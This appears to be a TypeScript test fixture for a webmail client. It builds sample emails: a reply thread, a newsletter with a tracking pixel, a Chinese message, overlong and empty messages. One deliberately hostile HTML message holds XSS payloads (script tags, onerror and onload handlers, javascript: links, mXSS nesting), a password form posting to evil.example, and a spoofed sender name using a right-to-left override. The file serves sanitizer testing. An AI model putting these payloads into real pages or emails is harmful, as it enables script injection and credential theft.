/** Messages that show what the webmail must cope with: a conversation, a newsletter, hostile HTML, extreme lengths. */
import { DAY, type FakeEmail, type FakePart, ME, makeEmail, PEOPLE } from './world.ts';

/** One red pixel. */
export const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==';

const NEWSLETTER = `<html><head><style>.h{font-family:Georgia,serif}</style></head><body bgcolor="#f3efe6">
<table width="600" align="center" bgcolor="#ffffff" cellpadding="24"><tr><td><h1 class="h" style="color:#8a3b12">Seven essays on slowness</h1>
<img src="https://tracker.example/open.gif?u=1" width="1" height="1"><img src="https://images.example/hero.jpg" width="552" height="240" alt="A slow river">
<p style="color:#333333">This week: why the best letters take a week, how a lighthouse keeps time, and a recipe that wants three days.</p>
<p><a href="https://weekly.example/read?id=7" style="background:#8a3b12;color:#fff;padding:10px 18px;text-decoration:none">Read the letter</a></p>
<p style="color:#777777;font-size:12px">You get this because you asked for it. <a href="https://weekly.example/leave">Leave</a></p></td></tr></table></body></html>`;

export const HOSTILE = `<p id="here">Harmless words first.</p>
<script>parent.hacked=1;alert('script')</script><img src=x onerror="alert('onerror')"><svg onload="alert('svg')"><a xlink:href="javascript:alert(1)">x</a></svg>
<a href="javascript:alert('href')">javascript link</a> <a href="data:text/html,<script>alert(1)</script>">data link</a> <a href="https://good.example/" onclick="alert('click')">good link</a>
<form action="https://evil.example/"><input name="password"><button>Send</button></form><iframe src="https://evil.example/frame"></iframe><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url(https://evil.example/import.css);body{background:url(https://evil.example/bg.png)}</style></style><script>alert('after style')</script>
<div style="position:fixed;inset:0;background:url('https://evil.example/overlay.png')">overlay</div>
<img src="https://evil.example/pixel.png" srcset="https://evil.example/2x.png 2x"><math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>
<video src="https://evil.example/v.mp4" autoplay poster="https://evil.example/p.png"></video><object data="https://evil.example/o"></object>`;

function attachment(blobId: string, name: string, type: string, size: number, cid: string | null = null): FakePart {
  return { partId: blobId, blobId, size, name, type, disposition: cid ? 'inline' : 'attachment', cid };
}

/** The samples, newest first; `now` is the time of the first. */
export function samples(now: number): FakeEmail[] {
  const at = (hours: number) => new Date(now - hours * 3_600_000).toISOString();
  const [anna = ME, wang = ME, chidi = ME, , , , , priya = ME, weekly = ME] = PEOPLE;
  const first = makeEmail(
    {
      id: 'Mc1',
      threadId: 'Tconv',
      from: [anna],
      to: [ME],
      cc: [priya],
      subject: 'The shape of the reading pane',
      receivedAt: at(50),
      keywords: { $seen: true },
    },
    'Hello Mei,\n\nhere is the first sketch of the reading pane. The list stays where it is, the conversation takes the rest, and nothing moves unless it tells something.\n\nWhat do you think?\n\n-- \nAnna Bergström\nNordlicht, Malmö',
  );
  const second = makeEmail(
    {
      id: 'Mc2',
      threadId: 'Tconv',
      from: [ME],
      to: [anna],
      cc: [priya],
      subject: 'Re: The shape of the reading pane',
      receivedAt: at(26),
      keywords: { $seen: true },
      mailboxIds: { Fsent: true },
      inReplyTo: first.messageId,
      references: first.messageId,
    },
    `I like it. One question: what happens below 700 pixels?\n\nOn Fri, 20 Nov 2026, Anna Bergström wrote:\n> here is the first sketch of the reading pane. The list stays where it is,\n> the conversation takes the rest.\n`,
  );
  const third = makeEmail(
    {
      id: 'Mc3',
      threadId: 'Tconv',
      from: [anna],
      to: [ME],
      cc: [priya],
      subject: 'Re: The shape of the reading pane',
      receivedAt: at(0.4),
      hasAttachment: true,
      inReplyTo: second.messageId,
      references: [...first.messageId, ...second.messageId],
      attachments: [
        attachment('Bpdf', 'Reading pane, second sketch.pdf', 'application/pdf', 482_113),
        attachment('Bpng', 'narrow.png', 'image/png', 31_400),
      ],
    },
    '',
    `<div>One pane at a time, with a bar at the bottom for the three things one does most. <b>Swipe left</b> archives, <b>swipe right</b> marks read.</div><div><br></div><div>The second sketch is attached; here is the small one: <img src="cid:small@sketch" width="48" height="48" alt="sketch"></div><div>See <a href="https://nordlicht.example/sketches/2">nordlicht.example/sketches/2</a>.</div><div><br></div><div>Anna</div><div class="gmail_quote"><div class="gmail_attr">On Sat, 21 Nov 2026, Mei Lindqvist wrote:</div><blockquote class="gmail_quote">I like it. One question: what happens below 700 pixels?</blockquote></div>`,
  );
  third.attachments.push(attachment('Bpixel', 'small.png', 'image/png', 70, 'small@sketch'));
  return [
    third,
    second,
    first,
    makeEmail(
      { id: 'Mnews', from: [weekly], subject: 'Seven essays on slowness', receivedAt: at(2) },
      'This week: why the best letters take a week.',
      NEWSLETTER,
    ),
    makeEmail(
      {
        id: 'Mhost',
        from: [{ name: 'Prize\u202eDepartment', email: 'win@evil.example' }],
        subject: 'You have won <script>alert(1)</script>',
        receivedAt: at(3),
      },
      '',
      HOSTILE,
    ),
    makeEmail(
      { id: 'Mzh', from: [wang], subject: '关于下周出差安排的确认', receivedAt: at(5), keywords: { $flagged: true, $seen: true } },
      '你好,\n\n下周二到周四我在杭州,周五回来。会议室已经订好,地址见 https://example.cn/room/3。\n\n如有变动请直接打电话。\n\n王小明',
    ),
    makeEmail(
      {
        id: 'Mlong',
        from: [chidi],
        subject: `A subject that does not end where one expects it to end, but goes on, and on, past every reasonable width, because somebody pasted the whole agenda of the meeting into it and pressed Send before looking at it`,
        receivedAt: at(7),
      },
      `An 80-character word: ${'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft'} and then some text.\n\n${'x'.repeat(400)}`,
    ),
    makeEmail(
      { id: 'Mempty', from: [], to: [ME], subject: '', receivedAt: new Date(now - 3 * DAY).toISOString(), keywords: { $seen: true } },
      '',
    ),
    makeEmail(
      {
        id: 'Mdark',
        from: [priya],
        subject: 'Plain HTML, black letters',
        receivedAt: new Date(now - 400 * DAY).toISOString(),
        keywords: { $seen: true },
      },
      '',
      '<div style="color:#000000;font-family:Arial">Black letters without a background, as most clients write them. <span style="color:rgb(31,73,125)">And some in navy.</span><p>A second paragraph.</p><ul><li>one</li><li>two</li></ul></div>',
    ),
  ];
}
